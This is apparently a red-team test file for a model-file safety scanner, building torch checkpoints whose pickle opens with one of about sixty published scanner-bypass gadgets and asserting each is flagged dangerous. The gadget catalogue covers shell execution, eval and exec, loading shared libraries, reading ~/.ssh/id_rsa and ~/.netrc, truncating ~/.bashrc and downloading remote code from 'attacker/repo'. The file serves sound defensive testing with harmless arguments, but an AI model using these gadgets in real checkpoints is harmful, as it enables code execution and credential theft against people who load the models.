import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkpointSpec, PickleBuilder, torchPickle } from "../../fixtures/pickle-builder.js";
import { writeTorchZip } from "../../fixtures/torch-zip-writer.js";
import { inspectFile } from "../../src/inspect/inspect-file.js";
import { useTempDirs } from "../helpers.js";

/**
 * Published scanner bypasses (picklescan / modelscan / fickling advisories) replayed against sdmodels: each case is
 * a `.ckpt` an attacker could upload, a torch zip whose `data.pkl` first calls a primitive and then pickles an
 * ordinary state dict, so the file still loads as a model. `torch.load(weights_only=False)` and a plain
 * `pickle.load` resolve every GLOBAL by importing the module and reading the attribute, then REDUCE calls it with
 * the pickled arguments. Only harmless commands are named; nothing here is ever unpickled.
 */

const tempDir = useTempDirs();

/** The arguments a payload passes, pushed in order (the builder then makes the tuple). */
type Args = (b: PickleBuilder) => PickleBuilder;

const text =
  (...values: string[]): Args =>
  (b) =>
    values.reduce((acc, v) => acc.binunicode(v), b);
const bytes =
  (data: Uint8Array): Args =>
  (b) =>
    b.binbytes(data);

/** A nested pickle as an argument: its own content never matters, the loader it is handed to runs it. */
const NESTED = new PickleBuilder().proto(2).global("posix", "system").binunicode("echo harmless").tuple1().reduce();

/** `module.name(*args)`, result dropped, as the opening of a protocol-4 data.pkl. */
function call(b: PickleBuilder, module: string, name: string, args: Args): PickleBuilder {
  return args(b.global(module, name).mark()).tuple().reduce().pop();
}

async function checkpointOpeningWith(payload: (b: PickleBuilder) => PickleBuilder) {
  const body = torchPickle(checkpointSpec([["model.diffusion_model.out.2.weight", { shape: [4, 320, 3, 3] }]]), {
    persistentIds: "zip",
  });
  // The state dict's own PROTO is dropped: the stream is one pickle, payload first.
  const dataPkl = payload(new PickleBuilder().proto(4)).raw(body.bytes.subarray(2)).bytes();
  const path = join(await tempDir(), "model.ckpt");
  await writeTorchZip(path, { dataPkl, storages: body.storages.map(({ key, byteSize }) => ({ key, byteSize })) });
  return inspectFile(path);
}

interface Bypass {
  module: string;
  name: string;
  args: Args;
  /** What loading the file does, and where in the loaded code that happens. */
  why: string;
}

const BYPASSES: Bypass[] = [
  // six.py registers lazy modules `<six>.moves` and `<six>.moves.<name>` on sys.meta_path; each attribute of them
  // is the Python 3 object it names (`getoutput` is subprocess.getoutput). Vendored copies do the same under
  // their own prefix (urllib3 1.x `urllib3.packages.six`). six is installed in every WebUI environment.
  {
    module: "six.moves",
    name: "getoutput",
    args: text("echo harmless"),
    why: "subprocess.getoutput runs a shell",
  },
  {
    module: "six.moves.builtins",
    name: "eval",
    args: text("print('harmless')"),
    why: "builtins.eval",
  },
  {
    module: "urllib3.packages.six.moves.cPickle",
    name: "loads",
    args: bytes(NESTED.stop().bytes()),
    why: "pickle.loads of a nested pickle",
  },
  {
    module: "six.moves.urllib.request",
    name: "urlopen",
    args: text("http://127.0.0.1:9/"),
    why: "urllib.request.urlopen opens a connection",
  },
  // six.py: `exec_ = getattr(moves.builtins, "exec")` on Python 3; python-future and many compat modules copy it.
  { module: "six", name: "exec_", args: text("print('harmless')"), why: "builtins.exec" },
  { module: "future.utils", name: "exec_", args: text("print('harmless')"), why: "builtins.exec" },
  // python-future (a basicsr requirement, so in every A1111 with GFPGAN): future/moves/subprocess.py is
  // `from subprocess import *`; past/builtins/misc.py execfile(path) compiles and execs a file, apply(f, *args)
  // calls f.
  {
    module: "future.moves.subprocess",
    name: "getoutput",
    args: text("echo harmless"),
    why: "subprocess.getoutput runs a shell",
  },
  { module: "past.builtins", name: "execfile", args: text("/tmp/payload.py"), why: "execs a file" },
  // torch/utils/_config_module.py: every config module torch turns into a ConfigModule (install_config_module)
  // gains `load_config(maybe_pickled_config)`, which calls pickle.loads on bytes. torch._functorch.config is one
  // the module denylist did not cover.
  {
    module: "torch._functorch.config",
    name: "load_config",
    args: bytes(NESTED.stop().bytes()),
    why: "pickle.loads of a nested pickle",
  },
  // torch/serialization.py add_safe_globals([...]) widens the weights_only allowlist of every later torch.load in
  // the process (ComfyUI and A1111 load each model with weights_only or their own allowlist).
  {
    module: "torch.serialization",
    name: "add_safe_globals",
    args: (b) => b.emptyList().global("collections", "OrderedDict").append(),
    why: "changes the process's load policy",
  },
  // torch/distributed/checkpoint/format_utils.py torch_save_to_dcp(path, dir) is torch.load(path, weights_only=False).
  {
    module: "torch.distributed.checkpoint.format_utils",
    name: "torch_save_to_dcp",
    args: text("/tmp/other.pt", "/tmp/out"),
    why: "unrestricted torch.load of a path",
  },
  // torch/__init__.py registers `torch.ops` and `torch.classes` in sys.modules; torch/_ops.py gives them
  // `load_library(path)` (ctypes.CDLL: runs the library's initialisers) and `import_module(name)` (importlib).
  { module: "torch.ops", name: "load_library", args: text("/tmp/payload.so"), why: "ctypes.CDLL of any path" },
  { module: "torch.ops", name: "import_module", args: text("antigravity"), why: "imports any module" },
  { module: "torch.classes", name: "load_library", args: text("/tmp/payload.so"), why: "ctypes.CDLL of any path" },
  // torch/utils/collect_env.py: every report function runs pip, conda, nvidia-smi and compilers as subprocesses.
  {
    module: "torch.utils.collect_env",
    name: "get_pretty_env_info",
    args: text(),
    why: "starts subprocesses",
  },
  // pandas/io/pickle.py read_pickle(path) unpickles the file at a path or URL (pandas.read_pickle is its alias).
  {
    module: "pandas.io.pickle",
    name: "read_pickle",
    args: text("/tmp/other.pkl"),
    why: "unpickles another file",
  },
  // pandas/compat/pickle_compat.py loads(bytes) unpickles with pandas' own unrestricted Unpickler.
  {
    module: "pandas.compat.pickle_compat",
    name: "loads",
    args: bytes(NESTED.stop().bytes()),
    why: "pickle.loads of a nested pickle",
  },
  // torch/distributed/run.py (torchrun) main(argv): with --no-python it starts any executable as the workers.
  {
    module: "torch.distributed.run",
    name: "main",
    args: (b) =>
      ["--nproc-per-node=1", "--no-python", "sh", "-c", "echo harmless"]
        .reduce((acc, arg) => acc.binunicode(arg), b.emptyList().mark())
        .appends(),
    why: "starts a process",
  },
  // numpy re-exports its file readers at the top level: fromregex opens the path (numpy/lib/_npyio_impl.py).
  {
    module: "numpy",
    name: "fromregex",
    args: text("/home/user/.ssh/id_rsa", "(.*)", "S100"),
    why: "opens any path",
  },
  // numpy/__init__.py `test = PytestTester(__name__)`: calling it runs pytest, which imports and runs test files.
  { module: "numpy", name: "test", args: text(), why: "runs pytest" },
  // numpy/_core/records.py fromfile(path, …) opens the path it is given.
  {
    module: "numpy._core.records",
    name: "fromfile",
    args: text("/home/user/.ssh/id_rsa", "S100"),
    why: "opens any path",
  },
  // CPython Lib/typing.py: _eval_type(ForwardRef(code), None, None) evaluates the ForwardRef's compiled code with
  // eval(); evaluate_forward_ref does the same (3.14).
  {
    module: "typing",
    name: "_eval_type",
    args: (b) => call(b, "typing", "ForwardRef", text("print('harmless')")).none().none(),
    why: "eval of text",
  },
  {
    module: "typing",
    name: "ForwardRef",
    args: text("print('harmless')"),
    why: "a compiled expression whose only use is to be evaluated",
  },
  // CPython's private test extensions ship with python.org, Windows, macOS and conda builds: _testcapi's
  // run_in_subinterp(code) runs Python source in a subinterpreter.
  {
    module: "_testcapi",
    name: "run_in_subinterp",
    args: text("import os; os.system('echo harmless')"),
    why: "runs Python source",
  },
  // CPython Lib/warnings.py _getcategory("pkg.mod.Name") does __import__("pkg.mod"): any module's top level runs.
  { module: "warnings", name: "_getcategory", args: text("antigravity.Warning"), why: "imports any module" },
  // tkinter.Tcl() is Tk(useTk=False), whose readprofile exec()s ~/.Tk.py (and sources ~/.Tk.tcl) when present.
  { module: "tkinter", name: "Tcl", args: text(), why: "execs a file from the home folder" },
  // CPython Lib/dataclasses.py (3.7-3.12) _create_fn(name, args, body) exec()s a def built from its text; a
  // default value in `args` runs while the def is made.
  {
    module: "dataclasses",
    name: "_create_fn",
    args: (b) => b.binunicode("f").emptyList().binunicode("x=print('harmless')").append().emptyList(),
    why: "exec of text",
  },
  // sympy (a torch ≥ 2 requirement): sympify(text) is parse_expr, which eval()s the text with every builtin function
  // (__import__, exec, open) in scope; most sympy functions sympify their string arguments.
  {
    module: "sympy",
    name: "sympify",
    args: text("__import__('os').system('echo harmless')"),
    why: "eval of text with builtins",
  },
  { module: "sympy", name: "simplify", args: text("__import__('os').getcwd()"), why: "sympifies its text argument" },
  // psutil (A1111 and ComfyUI requirement): Popen(*args) is subprocess.Popen.
  { module: "psutil", name: "Popen", args: text("echo harmless"), why: "starts a process" },
  // uvicorn.run("module:attr") imports the module it names, then binds a socket and serves forever.
  { module: "uvicorn", name: "run", args: text("antigravity:geohash"), why: "imports any module, binds a socket" },
  // safetensors.torch.save_file(tensors, path) writes (truncates) the path.
  {
    module: "safetensors.torch",
    name: "save_file",
    args: (b) => b.emptyDict().binunicode("/home/user/.bashrc"),
    why: "truncates any path",
  },
  // huggingface_hub.hf_hub_download(repo_id, filename) fetches from the network and writes the cache.
  {
    module: "huggingface_hub",
    name: "hf_hub_download",
    args: text("attacker/repo", "payload.py"),
    why: "network download, file write",
  },
  // transformers' dynamic modules: get_class_from_dynamic_module(ref, repo) downloads a repository's Python file
  // and imports it (the trust_remote_code check lives in the Auto classes, not here).
  {
    module: "transformers.dynamic_module_utils",
    name: "get_class_from_dynamic_module",
    args: text("payload.Payload", "attacker/repo"),
    why: "downloads and imports remote code",
  },
  // transformers.pipeline(task, model, …) takes trust_remote_code positionally (after dtype): it downloads the
  // repository and runs its Python code.
  {
    module: "transformers",
    name: "pipeline",
    args: (b) =>
      text(
        "text-generation",
        "attacker/repo",
      )(b)
        .none()
        .none()
        .none()
        .none()
        .none()
        .none()
        .newTrue()
        .none()
        .none()
        .none()
        .binunicode("auto")
        .newTrue(),
    why: "downloads and runs remote code",
  },
  // AUTOMATIC1111 and Forge: modules/launch_utils.py run(command) is subprocess.run(command, shell=True); launch.py
  // defines or re-exports run, run_pip, run_python and git_clone. Importable in the WebUI process that loads models.
  { module: "modules.launch_utils", name: "run", args: text("echo harmless"), why: "runs a shell command" },
  { module: "launch", name: "run_python", args: text("print('harmless')"), why: "runs python -c" },
  // SD.Next installer.py: run(cmd, arg), pip(arg) and git(arg) are subprocess.run(..., shell=True).
  { module: "installer", name: "run", args: text("echo", "harmless"), why: "runs a shell command" },
  // The original torch.load under the names WebUIs keep it: A1111 modules/safe.py `unsafe_torch_load`, ComfyUI
  // comfy/utils.py `load_torch_file(ckpt)` (safe_load=False by default), copied into Forge and many extensions.
  { module: "modules.safe", name: "unsafe_torch_load", args: text("/tmp/other.ckpt"), why: "torch.load of a path" },
  { module: "comfy.utils", name: "load_torch_file", args: text("/tmp/other.ckpt"), why: "torch.load of a path" },
  {
    module: "ldm_patched.modules.utils",
    name: "load_torch_file",
    args: text("/tmp/other.ckpt"),
    why: "torch.load of a path",
  },
  // torch/cuda/memory.py: _dump_snapshot(filename) pickle.dumps the allocator history into the path (truncating it),
  // _save_memory_usage and _save_segment_usage write an SVG there, and CUDAPluggableAllocator(path, alloc, free) is
  // ctypes.CDLL(path): the library's initialisers run. torch.cuda re-exports the allocator (`from .memory import *`).
  { module: "torch.cuda.memory", name: "_dump_snapshot", args: text("/home/user/.bashrc"), why: "truncates any path" },
  {
    module: "torch.cuda.memory",
    name: "_save_memory_usage",
    args: text("/home/user/.bashrc"),
    why: "truncates any path",
  },
  {
    module: "torch.cuda",
    name: "CUDAPluggableAllocator",
    args: text("/tmp/payload.so", "alloc", "free"),
    why: "ctypes.CDLL of any path",
  },
  // torch/cuda/_memory_viz.py format_flamegraph(lines, script) runs `script` as a process (downloading
  // flamegraph.pl to that path first when nothing is there); memory() and segments() call it.
  {
    module: "torch.cuda._memory_viz",
    name: "format_flamegraph",
    args: text("", "/tmp/payload"),
    why: "starts any executable",
  },
  // PIL/Image.py open(fp) opens the path it is given and reads it (a FIFO or device blocks the loader).
  { module: "PIL.Image", name: "open", args: text("/home/user/.ssh/id_rsa"), why: "opens any path" },
  // CPython Lib/copyreg.py add_extension(module, name, code) rewrites the registry EXT1/EXT2/EXT4 opcodes resolve
  // through: every later pickle.load in the process that uses that code imports what this file chose.
  {
    module: "copyreg",
    name: "add_extension",
    args: (b) => b.binunicode("posix").binunicode("system").binint(240),
    why: "changes how later pickles resolve",
  },
  // CPython Lib/mimetypes.py read_mime_types(file) opens and reads the path.
  { module: "mimetypes", name: "read_mime_types", args: text("/home/user/.netrc"), why: "opens any path" },
  // pwd/grp read the user and group databases (NSS may ask the network: LDAP, NIS).
  { module: "pwd", name: "getpwall", args: text(), why: "reads the user database" },
  { module: "grp", name: "getgrall", args: text(), why: "reads the group database" },
  // numpy and SciPy put a PytestTester named `test` in every sub-package (`numpy.linalg.test`, `scipy.linalg.test`):
  // calling it runs pytest, which imports and runs test files.
  { module: "numpy.linalg", name: "test", args: text(), why: "runs pytest" },
  { module: "scipy.linalg", name: "test", args: text(), why: "runs pytest" },
  // Helpers that torch.load a path: transformers' load_state_dict(file, is_quantized, map_location, weights_only)
  // takes weights_only positionally; diffusers' load_state_dict(file) torch.loads it unrestricted in older
  // releases; A1111's read_state_dict(file) loads it without restriction under --disable-safe-unpickle.
  {
    module: "transformers.modeling_utils",
    name: "load_state_dict",
    args: (b) => b.binunicode("/tmp/other.bin").newFalse().binunicode("cpu").newFalse(),
    why: "unrestricted torch.load of a path",
  },
  {
    module: "diffusers.models.model_loading_utils",
    name: "load_state_dict",
    args: text("/tmp/other.bin"),
    why: "torch.load of a path",
  },
  { module: "modules.sd_models", name: "read_state_dict", args: text("/tmp/other.ckpt"), why: "torch.load of a path" },
  // torchvision's model builders take `pretrained`/`weights` positionally (kwonly_to_pos_or_kw): True downloads the
  // default weights into the torch hub cache (load_state_dict_from_url) before the model is built.
  {
    module: "torchvision.models",
    name: "resnet50",
    args: (b) => b.newTrue(),
    why: "network download, file write",
  },
  {
    module: "torchvision.models.detection.faster_rcnn",
    name: "fasterrcnn_resnet50_fpn",
    args: (b) => b.newTrue(),
    why: "network download, file write",
  },
];

describe("red team: published-style bypasses, each in a checkpoint that still loads", () => {
  it.each(BYPASSES.map((b) => [`${b.module}.${b.name}`, b] as const))("%s is dangerous", async (_label, bypass) => {
    const inspection = await checkpointOpeningWith((b) => call(b, bypass.module, bypass.name, bypass.args));
    const record = inspection.safety.imports.find((i) => i.resolved === `${bypass.module}.${bypass.name}`);
    expect(record?.verdict, `${bypass.module}.${bypass.name}: ${bypass.why}`).toBe("dangerous");
    expect(inspection.safety.verdict).toBe("dangerous");
  });

  it("the ordinary checkpoint these payloads precede is safe on its own", async () => {
    const inspection = await checkpointOpeningWith((b) => b);
    expect(inspection.safety.verdict).toBe("safe");
  });
});
